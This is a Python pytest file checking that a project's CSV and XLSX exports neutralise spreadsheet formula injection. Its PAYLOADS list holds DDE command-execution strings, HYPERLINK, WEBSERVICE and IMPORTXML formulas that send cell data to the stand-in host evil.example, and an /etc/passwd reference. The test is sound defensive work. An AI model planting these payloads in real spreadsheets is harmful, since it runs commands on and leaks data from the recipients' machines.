"""No text that somebody typed runs in the spreadsheet program of another."""

from __future__ import annotations

import io
from decimal import Decimal

import openpyxl
import pytest

from codi.imports.reading import open_sheets
from codi.sheets.csv_file import csv_pieces
from codi.sheets.guard import guarded, unguarded
from codi.sheets.xlsx_file import write_xlsx
from tests.sheets.conftest import as_book, as_csv, table

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"ดู")',
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML(CONCAT("http://evil.example"), "//a")',
    '=DDE("cmd";"/C calc";"1")',
    "=@SUM(1)",
    "==1",
    "='file:///etc/passwd'#$passwd.A1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-500",
    "@SUM(1+1)",
    "@A1",
    "\t=1+1",
    "\tปกติ",
    "\r=1+1",
    "\r\n=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
)


def test_there_are_thirty_payloads() -> None:
    """Wrong if the count that docs/security.md gives were not true."""
    assert len(set(PAYLOADS)) == 30


def test_a_program_runs_what_is_not_guarded() -> None:
    """The control: written the plain way, the first payload is a formula."""
    book = openpyxl.Workbook()
    book.active["A1"] = PAYLOADS[0]  # type: ignore[index]
    stream = io.BytesIO()
    book.save(stream)
    assert openpyxl.load_workbook(stream).active["A1"].data_type == "f"  # type: ignore[index]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_in_csv_it_begins_with_an_apostrophe(payload: str) -> None:
    """Wrong if a cell began with a sign that a program computes, as a value or as a heading."""
    assert as_csv(table(["text"], [[payload]]))[1] == [f"'{payload}"]
    export = table(["text"], [])
    headed = type(export)("ก", "ก", [type(export.columns[0])(payload, "text")], [], [])
    assert as_csv(headed)[0] == [f"'{payload}"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_in_xlsx_it_is_typed_text(payload: str) -> None:
    """Wrong if a cell, a heading or a condition were a formula, or the text were not the same."""
    export = table(["text"], [[payload]])
    export = type(export)(
        payload, "ก", [type(export.columns[0])(payload, "text")], [[payload]], [(payload, payload)]
    )
    book = as_book(export)
    kinds = {cell.data_type for sheet in book for line in sheet.iter_rows() for cell in line}
    assert "f" not in kinds
    kept = payload.replace("\0", "").replace("\r\n", "\n")
    assert book["ข้อมูล"]["A2"].value.replace("\r\n", "\n") == kept


def test_a_negative_number_stays_a_number() -> None:
    """Wrong if −500 became text, in either file."""
    export = table(["baht", "number", "percent"], [[Decimal("-500.00"), -500, Decimal("-0.50")]])
    assert as_csv(export)[1] == ["-500.00", "-500", "-0.50"]
    row = as_book(export)["ข้อมูล"][2]
    assert [(cell.value, cell.data_type) for cell in row[:3]] == [
        (-500, "n"),
        (-500, "n"),
        (-0.5, "n"),
    ]


@pytest.mark.parametrize("payload", [one for one in PAYLOADS if "=" not in one and "＝" not in one])
def test_a_file_of_ours_that_comes_back_holds_the_same(payload: str) -> None:
    """Wrong if each way out and in added an apostrophe to a telephone number."""
    assert unguarded(guarded(payload)) == payload
    export = table(["text", "text"], [["ก", payload.replace("\0", "")]])
    text = "".join(csv_pieces(export)).encode()
    stream = io.BytesIO()
    write_xlsx(export, stream)
    for content, name in ((text, "f.csv"), (stream.getvalue(), "f.xlsx")):
        line = open_sheets(content, name)[0].head(2)[1]
        assert line.cells[1].strip() == payload.replace("\0", "").strip()
